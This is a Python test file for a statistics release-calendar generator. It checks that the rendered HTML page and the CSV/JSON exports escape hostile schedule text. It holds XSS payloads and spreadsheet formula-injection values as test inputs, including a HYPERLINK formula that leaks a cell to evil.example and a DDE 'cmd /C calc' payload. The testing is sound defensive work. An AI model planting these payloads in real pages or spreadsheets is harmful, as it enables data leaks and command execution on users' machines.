"""The index page and the data files a build writes beside the feeds."""

import csv
import datetime as dt
import io
import json
import re
import shutil
import subprocess
from html.parser import HTMLParser

import pytest
from helpers import (
    GOLDEN,
    MONTHLY,
    PROGRAMME,
    examples,
    generated_releases,
    outside_tool,
    record_change,
    record_entry,
    run_cli,
    write_schedules,
)
from hypothesis import event, given
from hypothesis import strategies as st
from reference import release_as_dict

from calendar_gen.domain.history import ical_status
from calendar_gen.domain.releases import FIELDS, expand
from calendar_gen.programme.schedule import load_programme
from calendar_gen.publishing.assets import SCRIPT
from calendar_gen.publishing.feeds import event_title
from calendar_gen.publishing.pages import csv_lines, json_lines, render_index, spreadsheet_cell

HOSTILE = """\
topic = "<b>Bold</b> & co"

[[publication]]
id = "hostile"
title = "<script>alert('x')</script> \\"quoted\\""
designation = "Official Statistics"
frequency = "bi-annual"
months = [5, 11]
day = "second tuesday"
description = "<img src=x onerror=alert(1)>"
"""


class Page(HTMLParser):
    """What a browser would see: elements, links, text, scripts and release rows."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.links: list[tuple[str, str]] = []  # (class, href)
        self.text: list[str] = []
        self.scripts: list[str] = []  # what a browser runs
        self.data_blocks: list[str] = []  # scripts of data (JSON-LD), which it never runs
        self.rows: list[dict[str, str]] = []  # the release rows' attributes
        self.ids: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        attributes = dict(attrs)
        self.data_block = tag == "script" and attributes.get("type") == "application/ld+json"
        if "id" in attributes:
            self.ids.append(attributes["id"])
        if tag == "a":
            self.links.append((attributes.get("class") or "", attributes["href"]))
        if "release" in (attributes.get("class") or "").split():
            self.rows.append(attributes)

    def handle_endtag(self, tag):
        self.tags.append(f"/{tag}")

    def handle_data(self, data):
        if self.tags[-1:] == ["script"]:
            (self.data_blocks if self.data_block else self.scripts).append(data)
            return
        self.text.append(data)


def page_for(tmp_path, settings="", topic=HOSTILE, as_of=dt.date(2014, 6, 1)):
    programme = load_programme(write_schedules(tmp_path, {"t": topic}, PROGRAMME + settings))
    releases = expand(programme, as_of=as_of)
    return render_index(programme, releases, programme.period, as_of), releases


def test_schedule_text_is_shown_as_text_never_run(tmp_path):
    text, _ = page_for(tmp_path)
    page = Page(text)
    assert "img" not in page.tags and "b" not in page.tags
    # One script that runs, the page's own: nothing from a schedule is in it; and one block
    # of data, the structured data.
    assert page.tags.count("script") == 2 and page.scripts == [f"\n{SCRIPT}\n"]
    assert len(page.data_blocks) == 1
    shown = "".join(page.text)
    assert "<script>alert('x')</script> \"quoted\"" in shown
    assert "<b>Bold</b> & co" in shown


@pytest.mark.parametrize(
    ("word", "meaning"),
    [
        ("Provisional", "its date may still change, until 6 weeks before it"),
        ("Confirmed", "its date changes only for a reason, shown with the release"),
        ("Cancelled", "it will not come out; it stays listed with its reason"),
    ],
)
def test_the_page_says_what_each_status_means(tmp_path, word, meaning):
    text, _ = page_for(tmp_path, "notice_weeks = 6\n")
    assert f"<strong>{word}</strong>: {meaning}." in text


def test_links_use_feed_url(tmp_path):
    text, _ = page_for(tmp_path, 'feed_url = "https://stats.example.gov.uk/feeds/"\n')
    page = Page(text)
    assert ("subscribe", "webcal://stats.example.gov.uk/feeds/all.ics") in page.links
    assert ("download", "https://stats.example.gov.uk/feeds/all.ics") in page.links
    assert ("subscribe", "webcal://stats.example.gov.uk/feeds/t.ics") in page.links
    # The address is shown in full, ready to paste into a calendar.
    assert '<code class="address" id="address-t">https://stats.example.gov.uk/feeds/t.ics' in text
    assert " data-relative=" not in text
    # Links elsewhere only to the calendar apps' own pages for adding a feed by its address.
    apps = r"stats\.example|calendar\.google\.com/calendar/render\?cid=webcal%3A%2F%2Fstats|"
    apps += r"outlook\.live\.com/calendar/0/addfromweb\?url=https%3A%2F%2Fstats"
    assert not re.search(rf"""(src|href)=["']?(https?:)?//(?!{apps})""", text)
    google = "https://calendar.google.com/calendar/render?cid="
    outlook = "https://outlook.live.com/calendar/0/addfromweb?url="
    assert ("google", f"{google}webcal%3A%2F%2Fstats.example.gov.uk%2Ffeeds%2Ft.all-day.ics"
            ) in page.links  # fmt: skip
    # Outlook is given the calendar's own name, "Test Office: <b>Bold</b> & co", and "(all
    # day)" for that variant: two variants added are not two calendars of one name.
    name = "Test%20Office%3A%20%3Cb%3EBold%3C%2Fb%3E%20%26%20co"
    assert (
        "outlook",
        f"{outlook}https%3A%2F%2Fstats.example.gov.uk%2Ffeeds%2Ft.ics&name={name}",
    ) in page.links
    assert (
        "outlook",
        f"{outlook}https%3A%2F%2Fstats.example.gov.uk%2Ffeeds%2Ft.all-day.ics&name={name}"
        "%20%28all%20day%29",
    ) in page.links


def test_links_are_relative_without_feed_url(tmp_path):
    text, _ = page_for(tmp_path)
    page = Page(text)
    assert ("subscribe", "t.ics") in page.links and ("download", "t.ics") in page.links
    # Without a script the relative address is what shows; the script makes it absolute.
    assert '<code class="address" id="address-t" data-relative="t.ics">t.ics</code>' in text
    assert '<button type="button" class="copy" data-copy="address-t" hidden>' in text
    # The apps that take only a whole address wait for the script to know it.
    assert re.search(r'<a class="google" href="[^"]*" data-name="[^"]*" hidden>', text)


def test_every_release_newest_first_whatever_the_day_of_the_build(tmp_path):
    text, releases = page_for(tmp_path)
    page = Page(text)
    assert [row["data-date"] for row in page.rows] == ["2014-11-11", "2014-05-13"]
    assert [row["id"] for row in page.rows] == ["hostile-2014-11", "hostile-2014-05"]
    assert "All releases, newest first" in text
    # Upcoming is worked out by the browser, so the page is the same whenever it is built.
    programme = load_programme(tmp_path)
    later = render_index(programme, releases, programme.period, dt.date(2014, 12, 1))
    assert later == text
    # Counts without a script are of every release that is not cancelled.
    assert '<span class="count" data-holds="all">2 releases</span>' in text


def test_ids_are_unique_and_rows_are_anchors(tmp_path):
    page = Page(page_for(tmp_path, topic=MONTHLY)[0])
    assert len(page.ids) == len(set(page.ids))
    assert len(page.rows) == 12
    assert all(row["id"] == f"monthly-bulletin-{row['data-month']}" for row in page.rows)


def test_page_links_the_changes_feed(tmp_path):
    text, _ = page_for(tmp_path)
    assert (
        '<link rel="alternate" type="application/atom+xml" href="changes.atom"\n'
        ' title="Changes to the Test Office release calendar">'
    ) in text


TIMED_EXTRA = """
[[publication]]
id = "early-bird"
title = "Early bird"
designation = "National Statistics"
frequency = "annual"
months = [9]
day = "first tuesday"
time = "07:00"
time_reason = "market-sensitive: out before the markets open"

[[publication]]
id = "paused"
title = "Paused <series>"
designation = "Official Statistics"
frequency = "annual"
months = [10]
day = "first tuesday"

[[publication.suspended]]
period = "2014/15"
reason = "survey redesign & <review>"

[[publication]]
id = "stopped"
title = "Stopped series"
designation = "Official Statistics"
frequency = "monthly"
day = "first friday"

[publication.ended]
on = 2014-08-31
reason = "merged into the Monthly bulletin"
"""
TIMED = MONTHLY + "\n" + TIMED_EXTRA


def test_times_are_as_published_with_their_reason(tmp_path):
    text, _ = page_for(tmp_path, topic=TIMED)
    row = text[text.index('id="early-bird-2014-09"') :].split("</li>")[0]
    assert '<span class="time">07:00</span>' in row
    assert "Released at 07:00: market-sensitive: out before the markets open" in row
    monthly = text[text.index('id="monthly-bulletin-2014-09"') :].split("</li>")[0]
    assert '<span class="time">09:30</span>' in monthly and "note" not in monthly
    assert "released at 09:30 UK time on working days unless a release shows another" in text


def test_suspended_and_ended_publications_are_listed_with_the_reason(tmp_path):
    text, _ = page_for(tmp_path, topic=TIMED)
    assert (
        "<li><strong>Paused &lt;series&gt;</strong> (Test topic): suspended for 2014/15: "
        "survey redesign &amp; &lt;review&gt;</li>"
    ) in text
    assert (
        "<li><strong>Stopped series</strong> (Test topic): ended on Sunday 31 August 2014: "
        "merged into the Monthly bulletin</li>"
    ) in text
    assert 'id="stopped-2014-09"' not in text and 'id="stopped-2014-08"' in text
    assert "Suspended and ended" not in page_for(tmp_path / "plain", topic=MONTHLY)[0]


def with_history(tmp_path, topic: str):
    """Releases of `topic`, one of them moved with a reason that needs quoting."""
    folder = write_schedules(tmp_path, {"t": topic})
    (folder / "announcements.toml").write_text(
        '[[release]]\nid = "hostile"\nmonth = "2014-05"\ndate = 2014-05-14\n\n'
        '[[release.change]]\non = 2014-05-01\naction = "moved"\nfrom = 2014-05-13\n'
        'to = 2014-05-14\nreason = "late, \\"very\\" late;\\nsorry"\n'
    )
    return expand(load_programme(folder), as_of=dt.date(2014, 6, 1))


PLAIN = HOSTILE.replace('description = "<img src=x onerror=alert(1)>"\n', "")
WELSH = HOSTILE.replace("<img src=x onerror=alert(1)>", 'Ystadegau ŵyr, \\"dyfyniad\\"\\n😀')
# Cells a spreadsheet would run: a live link that leaks a neighbouring cell, and sums.
FORMULAS = """\
topic = "+1+1"

[[publication]]
id = "hostile"
title = "=HYPERLINK(\\"http://evil.example/?x=\\"&B3,\\"Click\\")"
designation = "Official Statistics"
frequency = "bi-annual"
months = [5, 11]
day = "second tuesday"
description = "@SUM(1+1)*cmd|' /C calc'!A0"
"""


@pytest.mark.parametrize("topic", [HOSTILE, PLAIN, WELSH, FORMULAS])
def test_data_files_are_what_the_csv_and_json_libraries_write(tmp_path, topic):
    releases = with_history(tmp_path, topic)
    assert releases[0].changes  # the moved release, with a reason to quote
    assert_written_as_the_libraries_write(releases)
    assert "".join(json_lines([])) == "[]\n"


@pytest.mark.parametrize("topic", [HOSTILE, PLAIN, WELSH, FORMULAS, "golden"])
def test_pandas_reads_the_csv_as_exactly_the_rows_of_releases_json(tmp_path, topic):
    import pandas

    if topic == "golden":  # the shipped programme's, as published
        text = (GOLDEN / "releases.csv").read_text("utf-8-sig")
        data = json.loads((GOLDEN / "releases.json").read_text())
    else:  # a line break in a reason, quotes, commas, emoji, cells a spreadsheet would run
        releases = with_history(tmp_path, topic)
        text, data = "".join(csv_lines(releases)), json.loads("".join(json_lines(releases)))
    frame = pandas.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert list(frame.columns) == list(FIELDS)
    assert frame.to_dict("records") == list(csv.DictReader(io.StringIO(text)))
    assert len(frame) == len(data)
    for row, release in zip(frame.to_dict("records"), data, strict=True):
        assert (row["uid"], row["date"], row["start"]) == (
            release["uid"], release["date"], release["start"]
        )  # fmt: skip
        assert int(row["sequence"]) == release["sequence"]


@pytest.mark.interop
def test_libreoffice_reads_the_csv_as_exactly_the_rows_of_releases_json(tmp_path):
    """LibreOffice Calc, headless, opens each releases.csv as a spreadsheet user would (comma,
    double quote, UTF-8) and saves it as a workbook, which openpyxl reads back."""
    import openpyxl

    outside_tool("LibreOffice")
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice is not installed: run make test-tools (libreoffice-calc-nogui)"
    expected = {}
    for name, topic in (("hostile", HOSTILE), ("welsh", WELSH), ("formulas", FORMULAS)):
        releases = with_history(tmp_path / name, topic)
        (tmp_path / f"{name}.csv").write_text("".join(csv_lines(releases, byte_order_mark=True)))
        expected[name] = json.loads("".join(json_lines(releases)))
    shutil.copy(GOLDEN / "releases.csv", tmp_path / "golden.csv")
    expected["golden"] = json.loads((GOLDEN / "releases.json").read_text())
    # Comma, double quote, UTF-8 from line 1; quoted cells as text, no special numbers.
    options = "CSV:44,34,76,1,,0,true,false"
    files = [str(tmp_path / f"{name}.csv") for name in expected]
    done = subprocess.run(
        [soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/lo",
         f"--infilter={options}", "--convert-to", "xlsx", "--outdir", str(tmp_path / "x"),
         *files],
        capture_output=True, timeout=180, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr.decode()
    for name, data in expected.items():
        sheet = openpyxl.load_workbook(tmp_path / "x" / f"{name}.xlsx").active
        rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
        assert rows[0] == list(FIELDS), name
        assert len(rows) - 1 == len(data), f"{name}: {len(rows) - 1} rows for {len(data)}"
        # Every cell as Python's csv module reads it, line breaks in reasons included.
        text = (tmp_path / f"{name}.csv").read_text("utf-8-sig")
        assert [list(map(_as_read, r)) for r in rows] == list(csv.reader(io.StringIO(text)))
        for cells, release in zip(rows[1:], data, strict=True):
            row = dict(zip(FIELDS, map(_as_read, cells), strict=True))
            assert (row["uid"], row["date"], row["start"], row["status"]) == (
                release["uid"], release["date"], release["start"], release["status"]
            )  # fmt: skip
            assert int(row["sequence"]) == release["sequence"]
            # What was written is what the spreadsheet holds: shown, never run as a formula.
            assert row["title"] == spreadsheet_cell(release["title"])
            assert row["description"] == spreadsheet_cell(release["description"])


def _as_read(value: object) -> str:
    """A cell as its text: a date Calc recognised as its ISO day, a number as written."""
    if isinstance(value, dt.datetime):
        return value.date().isoformat()
    return "" if value is None else str(value)


@examples(60)
@given(st.data())
def test_generated_calendars_are_written_as_the_libraries_write_them(tmp_path_factory, data):
    releases = generated_releases(data.draw, tmp_path_factory.mktemp("schedules"))
    assert_written_as_the_libraries_write(releases)
    event("with changes" if any(r.changes for r in releases) else "without")


def assert_written_as_the_libraries_write(releases):
    rows = [release_as_dict(r) for r in releases]
    # The library path: csv.writer and json.dumps over each release's fields, every CSV
    # cell made safe for spreadsheets.
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(FIELDS)
    for release, row in zip(releases, rows, strict=True):
        cells = [*list(row.values())[:-1], "; ".join(c.text() for c in release.changes)]
        writer.writerow([spreadsheet_cell(str(cell)) for cell in cells])
    assert "".join(csv_lines(releases)) == buffer.getvalue()
    lines = [json.dumps(row, ensure_ascii=False) for row in rows]
    expected = "[\n" + ",\n".join("  " + x for x in lines) + "\n]\n" if rows else "[]\n"
    assert "".join(json_lines(releases)) == expected
    assert json.loads(expected) == rows


def test_data_files_match_the_list_fields(tmp_path):
    _, releases = page_for(tmp_path)
    rows = list(csv.DictReader(io.StringIO("".join(csv_lines(releases)))))
    data = json.loads("".join(json_lines(releases)))
    assert tuple(rows[0]) == FIELDS == tuple(data[0])
    assert [r["date"] for r in rows] == [r["date"] for r in data] == ["2014-05-13", "2014-11-11"]
    assert rows[0]["title"] == "<script>alert('x')</script> \"quoted\""


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_spreadsheet_cell_neutralises_what_a_spreadsheet_would_run(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Crime 2014", "a=1", "'quoted", "Ŵyr"])
def test_spreadsheet_cell_leaves_other_text_alone(text):
    assert spreadsheet_cell(text) == text


def test_csv_cells_a_spreadsheet_would_run_are_text(tmp_path):
    releases = with_history(tmp_path, FORMULAS)
    (row, *_) = csv.DictReader(io.StringIO("".join(csv_lines(releases))))
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?x="&B3,"Click")'
    assert row["topic_name"] == "'+1+1"
    assert row["description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["history"].startswith("Moved on Thursday 1 May 2014 from Tuesday 13 May 2014 to ")
    data = json.loads("".join(json_lines(releases)))
    assert data[0]["title"].startswith("=HYPERLINK")  # JSON is data, not a spreadsheet


def test_releases_csv_has_a_byte_order_mark_for_excel(tmp_path):
    write_schedules(tmp_path / "schedules", {"t": WELSH})
    assert run_cli("build", "--as-of", "2014-06-01", cwd=tmp_path).returncode == 0
    data = (tmp_path / "feeds" / "releases.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf" + ",".join(FIELDS).encode())
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0]["description"].startswith("Ystadegau ŵyr")
    # Printed to a terminal or a pipe it has none: only a file opened by a spreadsheet needs it.
    listed = run_cli("list", "--format", "csv", cwd=tmp_path).stdout
    assert listed.startswith(",".join(FIELDS))


# Markup, a script end tag, quotes and an attribute breakout in every text a schedule holds.
NASTY = "</script><script>alert(1)</script><b onmouseover='x'>\\\"&amp;"
HOSTILE_PROGRAMME = f"""\
organisation = "Office {NASTY}"
period = "2014/15"
"""
# NASTY as the record's reader gives it back: a TOML string's \" is a quote.
NASTY_TEXT = NASTY.replace('\\"', '"')
HOSTILE_RECORD = (
    record_entry("hostile", "2014-05", "2014-05-14", confirmed="2014-04-15")
    + record_change("2014-05-01", "moved", "2014-05-13", "2014-05-14", f"moved {NASTY_TEXT}")
    + "\n"
    + record_entry("hostile", "2014-11", "2014-11-11", confirmed="2014-10-14")
    + record_change("2014-10-20", "cancelled", "2014-11-11", reason=f"cancelled {NASTY_TEXT}")
)
HOSTILE_EXTRA = f"""
[[publication]]
id = "odd-time"
title = "Odd {NASTY}"
designation = "National Statistics"
frequency = "annual"
months = [9]
day = "first tuesday"
time = "07:00"
time_reason = "early {NASTY}"

[[publication.suspended]]
period = "2015/16"
reason = "paused {NASTY}"

[publication.ended]
on = 2015-12-31
reason = "ended {NASTY}"
"""


def write_hostile(folder):
    """A schedules folder whose every text is hostile, with a move and a cancellation."""
    write_schedules(folder, {"t": HOSTILE + HOSTILE_EXTRA}, HOSTILE_PROGRAMME)
    (folder / "announcements.toml").write_text(HOSTILE_RECORD)
    return folder


def test_hostile_text_everywhere_stays_text(tmp_path):
    programme = load_programme(write_hostile(tmp_path))
    releases = expand(programme, as_of=dt.date(2014, 6, 1))
    text = render_index(programme, releases, programme.period, dt.date(2014, 6, 1))
    page = Page(text)
    assert page.scripts == [f"\n{SCRIPT}\n"]
    assert "b" not in page.tags and "onmouseover" not in str(page.rows)
    shown = "".join(page.text)
    raw = NASTY.replace('\\"', '"')  # as TOML reads it
    moved = "Moved on Thursday 1 May 2014 from Tuesday 13 May 2014 to Wednesday 14 May 2014: moved "
    for where in ("Office ", moved, "cancelled ", "early ",
                  "paused ", "ended ", "Odd "):  # fmt: skip
        assert where + raw in shown, where


def test_status_words_are_the_feeds(tmp_path):
    programme = load_programme(write_hostile(tmp_path))
    releases = expand(programme, as_of=dt.date(2014, 6, 1))
    page = Page(render_index(programme, releases, programme.period, dt.date(2014, 6, 1)))
    status = {row["id"]: row["data-status"] for row in page.rows}
    assert status == {
        "hostile-2014-05": "confirmed", "odd-time-2014-09": "provisional",
        "hostile-2014-11": "cancelled",
    }  # fmt: skip
    # The feeds say the same: STATUS and the title words some clients rely on.
    for r in releases:
        row = status[f"{r.publication.id}-{r.scheduled}"]
        assert (row, ical_status(r.status)) in {
            ("confirmed", "CONFIRMED"), ("provisional", "TENTATIVE"), ("cancelled", "CANCELLED"),
        }  # fmt: skip
        assert event_title(r).startswith("Cancelled: ") == (row == "cancelled")
        assert event_title(r).endswith(" (provisional)") == (row == "provisional")


def test_last_updated_comes_from_the_record_and_changes_show_only_when_there_are_some(tmp_path):
    programme = load_programme(write_hostile(tmp_path))
    releases = expand(programme, as_of=dt.date(2014, 6, 1))
    text = render_index(programme, releases, programme.period, dt.date(2014, 6, 1))
    # The latest of the confirmations (15 April, 14 October) and changes (1 May, 20 October).
    assert 'Last updated <time datetime="2014-10-20">Monday 20 October 2014</time>.' in text
    assert "Changes:" not in text
    odd = text[text.index('id="odd-time-2014-09"') :].split("</li>")[0]
    assert odd.count('class="note"') == 1  # its time's reason, and no history
    plain = page_for(tmp_path / "plain", topic=MONTHLY, as_of=dt.date(2014, 3, 1))[0]
    assert "Last updated" not in plain and 'class="note"' not in plain


def test_a_description_over_several_lines_is_one_csv_row_per_release(tmp_path):
    # No comma or quote to make csv.QUOTE_MINIMAL quote it on Python 3.11 or 3.12: only the
    # line breaks.
    lines = "First line of the description\\nsecond line\\n\\nthird line"
    write_schedules(tmp_path / "schedules", {"test": MONTHLY + f'description = "{lines}"\n'})
    assert run_cli("build", "--as-of", "2014-04-01", cwd=tmp_path).returncode == 0
    data = json.loads((tmp_path / "feeds" / "releases.json").read_text("utf-8"))
    assert len(data) > 1 and "\n" in data[0]["description"]
    written = (tmp_path / "feeds" / "releases.csv").read_text("utf-8-sig")
    listing = ("list", "--as-of", "2014-04-01", "--format")
    listed = run_cli(*listing, "csv", cwd=tmp_path).stdout
    in_json = json.loads(run_cli(*listing, "json", cwd=tmp_path).stdout)
    for text, rows_in_json in ((written, data), (listed, in_json)):
        header, *rows = csv.reader(io.StringIO(text, newline=""))
        assert header == list(FIELDS)
        assert [dict(zip(header, row, strict=True)) for row in rows] == [
            {k: str(v) if k != "history" else "" for k, v in r.items()} for r in rows_in_json
        ]
    assert listed in written
    assert '"First line of the description\nsecond line\n\nthird line"' in listed


@pytest.mark.parametrize(
    ("organisation", "heading"),
    [
        ("Office for Rail Statistics", "Office for Rail Statistics"),
        ("Scottish Government statistics", "Scottish Government statistics"),
        ("Test Office", "Test Office statistics"),
    ],
)
def test_an_organisation_named_statistics_is_not_statistics_statistics(
    tmp_path, organisation, heading
):
    programme = PROGRAMME.replace("Test Office", organisation)
    write_schedules(tmp_path / "schedules", programme=programme)
    assert run_cli("build", "--as-of", "2014-04-20", cwd=tmp_path).returncode == 0
    feeds = tmp_path / "feeds"
    page = (feeds / "index.html").read_text()
    assert f"<h1>{heading} release calendar</h1>" in page
    assert f"<title>{heading} release calendar, 2014/15</title>" in page
    every = (feeds / "all.ics").read_text().replace("\n ", "")  # unfolded
    assert f"Pre-announced release dates of all {heading}\\, 2014/15." in every
    assert (
        f"<title>{heading} release calendar: changes</title>"
        in (feeds / "changes.atom").read_text()
    )
    written = page + every + (feeds / "test.ics").read_text() + (feeds / "changes.atom").read_text()
    assert "statistics statistics" not in written.casefold()


class _Glance(HTMLParser):
    """The year at a glance as a reader meets it: month captions, and each linked day."""

    def __init__(self):
        super().__init__()
        self.captions, self.days, self.ids, self._in = [], {}, set(), None

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if "id" in attributes:
            self.ids.add(attributes["id"])
        if tag == "caption":
            self._in = "caption"
        if tag == "a" and "aria-label" in attributes and attributes["href"].startswith("#"):
            self.days[attributes["aria-label"]] = attributes["href"][1:]

    def handle_data(self, data):
        if self._in == "caption":
            self.captions.append(data)

    def handle_endtag(self, tag):
        self._in = None


def test_the_year_at_a_glance_links_each_release_day_to_its_release():
    glance = _Glance()
    glance.feed((GOLDEN / "index.html").read_text())
    assert glance.captions == [
        *(f"{m} 2014" for m in ("April", "May", "June", "July", "August", "September",
                                "October", "November", "December")),
        "January 2015", "February 2015", "March 2015",
    ]  # fmt: skip
    rows = json.loads((GOLDEN / "releases.json").read_text())
    assert len(glance.days) == len({r["date"] for r in rows})
    assert set(glance.days.values()) <= glance.ids  # each link lands on a listed release
    # Thursday 28 August 2014: Immigration Statistics, and the Terrorism Act statistics
    # moved there from 4 September.
    moved = (
        "Thursday 28 August 2014: Immigration Statistics; Operation of police powers under the "
        "Terrorism Act 2000, quarterly update, a release moved to this day"
    )
    assert glance.days[moved] == "immigration-statistics-2014-08"
    page = (GOLDEN / "index.html").read_text()
    # Two releases that day: the count is shown, and the name is a tooltip too.
    assert '>28</a><span class="many" aria-hidden="true">(2)</span>' in page
    assert f'title="{moved}"' in page


def test_the_year_at_a_glance_says_a_release_was_cancelled_in_words(tmp_path):
    write_hostile(tmp_path / "schedules")
    assert run_cli("build", "--as-of", "2014-06-01", cwd=tmp_path).returncode == 0
    glance = _Glance()
    glance.feed((tmp_path / "feeds" / "index.html").read_text())
    (cancelled,) = [label for label in glance.days if label.startswith("Tuesday 11 November")]
    assert cancelled.endswith(", a release cancelled")
    # Only a cancelled release that day: it is not marked as a day something comes out.
    assert '<td class="on gone"><a href="#hostile-2014-11"' in (
        tmp_path / "feeds" / "index.html").read_text()  # fmt: skip


def test_the_feeds_are_listed_in_groups_each_variant_with_its_links(tmp_path):
    settings = 'feed_url = "https://stats.example.gov.uk/feeds"\nreminder = "16:00"\n'
    text, _ = page_for(tmp_path, settings)
    page = Page(text)
    summaries = re.findall(r"<summary>([^<]*)</summary>", text)
    # One topic (so all and it), one designation, England and Wales, one publication.
    assert summaries == ["All releases, and each topic's (2 feeds)", "By designation (1 feed)",
                         "By the nation whose bank holidays a release keeps (1 feed)",
                         "By publication (1 feed)"]  # fmt: skip
    assert text.count("<details") == 4 and text.count('<details class="feeds" open>') == 1
    base = "https://stats.example.gov.uk/feeds/publication-hostile"
    for ending in (".ics", ".all-day.ics", ".reminder.ics"):
        assert ("download", base + ending) in page.links
        assert ("subscribe", "webcal" + base.removeprefix("https") + ending) in page.links
    assert 'data-holds="nation:england-and-wales"' in text
    assert 'data-holds="publication:hostile"' in text
    # Each release row says which feeds' counts it is in.
    assert all(r["data-nation"] == "england-and-wales" for r in page.rows)
    assert all(r["data-publication"] == "hostile" for r in page.rows)
    said = "".join(page.text)
    assert "Google Calendar deletes it, so its users never see the cancellation" in said
    assert "with a reminder at 16:00 on the working day" in said
